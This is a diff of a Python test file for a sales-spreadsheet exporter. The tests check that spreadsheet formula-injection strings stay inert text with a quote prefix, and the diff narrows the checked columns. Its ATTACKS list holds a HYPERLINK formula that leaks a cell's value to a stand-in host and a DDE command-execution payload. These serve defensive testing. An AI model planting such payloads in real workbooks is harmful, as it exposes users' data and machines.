@@ -21,8 +21,8 @@ from xlsales.sharing.xlsxrows import Package, fill_table
 
 ATTACKS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=2+2", "=cmd|' /C calc'!A0", "=1/0"]
-TEXT_COLUMNS = {"A": "id", "B": "customer", "D": "owner", "E": "product_line", "N": "next_step", "O": "clarity",
-                "P": "q_step_done", "Q": "q_evidence", "R": "q_doing_now", "S": "q_next_prep"}
+TEXT_COLUMNS = {"A": "id", "B": "customer", "D": "owner", "E": "product_line", "N": "next_step",
+                "P": "q_step_done", "Q": "q_evidence", "R": "q_doing_now", "S": "q_next_prep"}  # O: C/F/W letters only
 
 
 def _files():
@@ -70,7 +70,7 @@ def test_attacks_stay_text_in_every_sheet_and_get_a_quote_prefix():
                     assert "<f>" not in cell.group(2) and "inlineStr" in cell.group(1)
                     style = int(re.search(r'\bs="(\d+)"', cell.group(1)).group(1))
                     assert 'quotePrefix="1"' in xfs[style], (name, ref)
-    # deals (6 rows used x 10 text columns), reps, file names, conflicting values, a bad value shown as found
+    # deals (6 rows used x 9 text columns), reps, file names, conflicting values, a bad value shown as found
     assert seen["商机"] == len(TEXT_COLUMNS) * (len(ATTACKS) - 2)
     assert seen["按人汇总"] >= len(ATTACKS) - 2 and seen["设置"] >= len(ATTACKS) - 2
     assert seen["来源"] >= 2 and seen["冲突"] >= 4 and seen["问题"] >= 2
@@ -94,7 +94,7 @@ def test_tricky_text_comes_back_exactly_through_the_roll_up():
     rollup = roll({"a.xlsx": funnel_bytes([deal(n) for n in range(1, len(TRICKY) + 1)], typed=typed)})
     out = team_workbook(rollup, dt.datetime(2026, 11, 23))
     rows = CalamineWorkbook.from_filelike(io.BytesIO(out)).get_sheet_by_name("商机").to_python()[1:len(TRICKY) + 1]
-    assert [(r[1], r[13]) for r in rows] == [(t.strip(), t.strip()) for t in TRICKY]
+    assert [(r[1], r[13]) for r in rows] == [(t, t) for t in TRICKY]  # text is kept exactly as typed
 
 
 def _table_workbook() -> bytes:
